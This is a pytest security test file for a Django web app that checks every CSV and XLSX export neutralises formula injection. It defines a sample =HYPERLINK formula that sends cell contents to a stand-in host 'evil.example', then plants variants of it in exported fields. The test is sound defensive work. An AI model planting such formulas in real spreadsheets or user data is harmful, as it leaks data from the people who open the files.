"""Formula injection: no exported spreadsheet (CSV or XLSX) holds a live formula.

A member named ``=HYPERLINK(…)`` is exported by every export of the project, each downloaded as
its users download it; every cell that holds the name must start with a single quote (CSV) or be a
text cell (XLSX), and no XLSX cell may be a formula. ``EXPORTS`` lists every export; a test walks
the URLconf and fails when an export URL is missing from it, so a new export is checked too. A
last test keeps spreadsheet writing in ``passerelle.core.exports``, the one home of the rule.
(The privacy data export is JSON, not a spreadsheet: it has no cells to escape.)
"""
from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from passerelle.core.enums import Visibility
from passerelle.reports import tables
from tests.events.factories import EventFactory, RegistrationFactory
from tests.factories import CoordinatorFactory, OrganisationFactory, PersonFactory

pytestmark = pytest.mark.django_db

MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"Xq2")'
MARKER = "evil.example"
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def world(db, monkeypatch):
    """The malicious text in every kind of exported value: a person's names, an organisation, a
    registration, and (as no member writes indicator text) the definition of every indicator."""
    org = OrganisationFactory(name="@" + MALICIOUS, acronym="-" + MALICIOUS)
    person = PersonFactory(first_name=MALICIOUS, last_name="+" + MALICIOUS, visibility=Visibility.PUBLIC,
                           organisation=org, expertise="\t" + MALICIOUS)
    event = EventFactory(slug="entretiens-formules")
    RegistrationFactory(event=event, person=person)
    monkeypatch.setattr(tables.Row, "definition", property(lambda row: "\r" + MALICIOUS))
    return {"event": event}


# Export URL name → (role that downloads it, the URLs to download for the world above).
EXPORTS: dict[str, tuple[str, Callable[[dict], list[str]]]] = {
    "directory:people_export": ("anonymous", lambda w: [
        reverse("directory:people_export", args=[fmt]) for fmt in ("csv", "xlsx")]),
    "directory:organisations_export": ("anonymous", lambda w: [
        reverse("directory:organisations_export", args=[fmt]) for fmt in ("csv", "xlsx")]),
    "events:registrations_export": ("coordinator", lambda w: [
        reverse("events:registrations_export", args=[w["event"].slug, fmt]) for fmt in ("csv", "xlsx")]),
    "reports:export": ("coordinator", lambda w: [
        reverse("reports:export", args=["csv"]), reverse("reports:export", args=["csv"]) + "?table=territories",
        reverse("reports:export", args=["xlsx"])]),
}


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]


def xlsx_cells(content: bytes) -> list[openpyxl.cell.Cell]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_escaped(url: str, content: bytes) -> None:
    if ".xlsx" in url:
        cells = xlsx_cells(content)
        assert not [c.coordinate for c in cells if c.data_type == "f"], url
        marked = [c for c in cells if MARKER in str(c.value)]
        assert marked, f"{url}: the malicious text is not in the export"
        assert all(c.data_type == "s" and c.value.startswith("'") for c in marked), [c.value for c in marked]
    else:
        marked = [cell for cell in csv_cells(content) if MARKER in cell]
        assert marked, f"{url}: the malicious text is not in the export"
        assert all(cell.startswith("'") for cell in marked), marked


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_every_export_escapes_cells_that_would_be_formulas(client, world, name):
    role, urls = EXPORTS[name]
    if role == "coordinator":
        client.force_login(CoordinatorFactory())
    for url in urls(world):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_escaped(url, response.content)


def test_the_public_directory_export_writes_the_name_as_typed_after_the_quote(client, world):
    rows = list(csv.DictReader(io.StringIO(
        client.get(reverse("directory:people_export", args=["csv"])).content.decode("utf-8-sig"), newline="")))
    assert (rows[0]["first_name"], rows[0]["last_name"]) == ("'" + MALICIOUS, "'+" + MALICIOUS)
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(reverse("directory:people_export", args=["xlsx"])).content))
    cell = sheet.active["A2"]
    assert (cell.value, cell.data_type) == ("'" + MALICIOUS, "s")


def _patterns(resolver: URLResolver, prefix: str = "", namespace: str = "") -> Iterator[tuple[str, str]]:
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}{entry.namespace}:" if entry.namespace else namespace
            yield from _patterns(entry, prefix + str(entry.pattern), inner)
        elif isinstance(entry, URLPattern):
            yield f"{namespace}{entry.name or ''}", prefix + str(entry.pattern)


def test_every_export_url_of_the_urlconf_is_checked_above():
    spreadsheet = re.compile(r"export|\bcsv\b|\bxlsx?\b|\bods\b|\btsv\b", re.IGNORECASE)
    found = {name for name, route in _patterns(get_resolver()) if spreadsheet.search(f"{name} {route}")}
    assert found == set(EXPORTS), "an export URL is missing from EXPORTS (or EXPORTS names a removed one)"



def test_spreadsheets_are_written_only_by_the_shared_module():
    writers = re.compile(r"tablib\.(Dataset|Databook)\(|csv\.(writer|DictWriter)\(|openpyxl\.Workbook\(|"
                         r"\.export\(\s*[\"'](csv|xlsx|xls|ods|tsv)")
    offenders = [str(path.relative_to(ROOT)) for path in (ROOT / "passerelle").rglob("*.py")
                 if path.name != "exports.py" or path.parent.name != "core"
                 if writers.search(path.read_text(encoding="utf-8"))]
    assert offenders == []
